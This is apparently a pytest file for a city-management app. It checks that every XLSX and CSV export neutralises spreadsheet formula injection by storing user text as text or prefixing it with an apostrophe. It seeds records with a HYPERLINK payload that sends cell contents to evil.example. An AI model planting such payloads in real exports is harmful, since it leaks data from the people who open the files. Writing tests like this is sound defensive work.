"""Spreadsheet formula injection (OWASP "CSV injection"): every export writes user text as text.

The export routes are found by walking the app's GET routes and keeping every answer that is an XLSX or
CSV file, so a new export is covered without touching this test."""

from __future__ import annotations

import csv
import io
from datetime import date
from typing import Any

import pytest
from fastapi.routing import APIRoute
from openpyxl import Workbook, load_workbook
from sqlalchemy.orm import Session

from citycockpit.core import tabular
from citycockpit.core.actors import SystemActor
from citycockpit.events.intake import service as intake
from citycockpit.goals import service as goals
from citycockpit.projects import service as projects
from citycockpit.projects.enums import ProjectStage
from tests.auth.routes import _raw_routes
from tests.builders import make_department
from tests.goals.builders import run_daily_evaluation

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
ACTOR = SystemActor("test")
XLSX = tabular.XLSX_MEDIA_TYPE
# Required query parameters of GET routes, by name: a new route with another one fails here, so it is
# given a value and walked rather than skipped.
SAMPLES = {"period": "2024-09", "year": "2024", "series": "地区生产总值", "lat": "31.45", "lon": "121.1"}
# Exports that must be found (the walk is not allowed to find nothing), each carrying the seeded text.
EXPECTED = {
    "/app/events?export=xlsx",
    "/app/projects?export=xlsx",
    "/app/goals?export=xlsx",
    "/app/admin/org?export=xlsx",
    "/api/v1/projects/export",
    "/api/v1/goals/export-tasks",
    "/api/v1/goals/bulletin?format=xlsx&period=2024-09",
}


def _is_formula_text(text: str) -> bool:
    if not text.startswith(TRIGGERS):
        return False
    try:
        float(text)
    except ValueError:
        return True
    return False


def _seed(db: Session, city: dict[str, Any], now: Any) -> None:
    dept = make_department(db, "EVIL", EVIL, now=now)
    intake.create_event(
        db,
        intake.EventInput(description=EVIL, title=EVIL, address=EVIL, reporter_name=EVIL, channel="patrol"),
        actor=ACTOR,
        now=now,
    )
    goals.create_goal(
        db,
        title=EVIL,
        year=2024,
        unit="-@",
        responsible_person=EVIL,
        lead_department_id=dept.id,
        due_on=date(2024, 12, 31),
        actor=ACTOR,
        now=now,
    )
    fields = {
        "name": EVIL,
        "level": "city",
        "industry": "高端装备",
        "investor": EVIL,
        "area_code": city["town_a"].code,
        "department_id": city["fgw"].id,
        "responsible_person": EVIL,
        "total_investment_wan_cny": 12.5,
    }
    projects.create_project(
        db, code="P-EVIL", fields=fields, stage=ProjectStage.CONSTRUCTION, stage_on=date(2024, 1, 2),
        actor=ACTOR, now=now,
    )  # fmt: skip
    run_daily_evaluation(db, now=now)  # the bulletin reads the stored evaluations
    db.flush()


def _candidates(app: Any) -> list[str]:
    urls = []
    for path, route in _raw_routes(app):
        if not isinstance(route, APIRoute) or "GET" not in route.methods or "{" in path:
            continue
        params = {p.name for p in route.dependant.query_params}
        required = {p.name for p in route.dependant.query_params if p.field_info.is_required()}
        missing = required - SAMPLES.keys()
        assert not missing, f"{path}: give SAMPLES a value for {sorted(missing)}"
        query = "&".join(f"{name}={SAMPLES[name]}" for name in sorted(required))
        variants = [query]
        if not path.startswith(("/api/", "/open311/")):
            variants.append("export=xlsx")  # web.tables.table_page's export of any table page
        if "format" in params:
            variants += [f"format={kind}&{query}".rstrip("&") for kind in ("xlsx", "csv")]
        urls += [f"{path}?{v}" if v else path for v in variants]
    return urls


def _cells(response: Any) -> list[tuple[str, Any, str]]:
    """(where, value, data type) of every cell of an XLSX or CSV answer."""
    media = response.headers["content-type"].split(";")[0]
    if media == XLSX:
        book = load_workbook(io.BytesIO(response.content))
        return [
            (f"{sheet.title}!{cell.coordinate}", cell.value, cell.data_type)
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.value is not None
        ]
    text = response.content.decode("utf-8-sig")
    return [
        (f"line {n} column {i}", value, "s")
        for n, record in enumerate(csv.reader(io.StringIO(text)), start=1)
        for i, value in enumerate(record, start=1)
    ]


def test_every_export_writes_user_text_as_text_never_as_a_formula(
    app, client, db: Session, clock, city, admin
) -> None:  # type: ignore[no-untyped-def]
    _seed(db, city, clock.now())
    found: dict[str, list[tuple[str, Any, str]]] = {}
    for url in _candidates(app):
        r = client.get(url, headers=admin.headers)
        assert r.status_code < 500, (url, r.status_code)
        media = r.headers.get("content-type", "").split(";")[0]
        if r.status_code == 200 and media in (XLSX, "text/csv"):
            found[url] = _cells(r)
    assert EXPECTED <= found.keys(), sorted(found)
    for url, cells in found.items():
        formulas = [(where, v) for where, v, kind in cells if kind == "f"]
        assert formulas == [], (url, formulas)
        runnable = [(where, v) for where, v, kind in cells if isinstance(v, str) and _is_formula_text(v)]
        if url in EXPECTED or any(v == EVIL for _, v, _ in cells):
            # XLSX keeps the text exactly, as a text cell; a CSV cell carries OWASP's apostrophe.
            assert all(kind == "s" for _, v, kind in cells if v == EVIL), url
        if "format=csv" in url:
            assert runnable == [], (url, runnable)
    for url in EXPECTED:
        values = [v for _, v, _ in found[url]]
        assert EVIL in values, (url, "the seeded text is missing: the test would prove nothing")


def test_numbers_stay_numbers_and_only_text_is_neutralised() -> None:
    assert [tabular.csv_cell(v) for v in (-5, -12.5, "-12.5", "+86 138", "@x", "\tx", "a=b", None)] == [
        -5, -12.5, "-12.5", "'+86 138", "'@x", "'\tx", "a=b", "",
    ]  # fmt: skip
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    tabular.append_xlsx_row(sheet, [EVIL, -5, "-3", "+1 办结", "正常"])
    out = io.BytesIO()
    book.save(out)
    cells = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())  # type: ignore[union-attr]
    assert [(c.value, c.data_type) for c in cells] == [
        (EVIL, "s"), (-5, "n"), ("-3", "s"), ("+1 办结", "s"), ("正常", "s"),
    ]  # fmt: skip
    assert cells[0].quotePrefix and not cells[4].quotePrefix


@pytest.mark.parametrize("text", [EVIL, "+1", "-x", "@SUM(A1)", "\t=1", "\r=1", "'plain", "-12.5"])
def test_an_exported_csv_reads_back_as_it_was_written(text: str) -> None:
    data = tabular.write_csv(["name"], [[text]])
    [_, [written]] = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert written == ("'" + text if _is_formula_text(text) else text)
    table = tabular.read_csv(data, "x.csv", {})
    assert table.rows[0].values["name"] == text.strip()
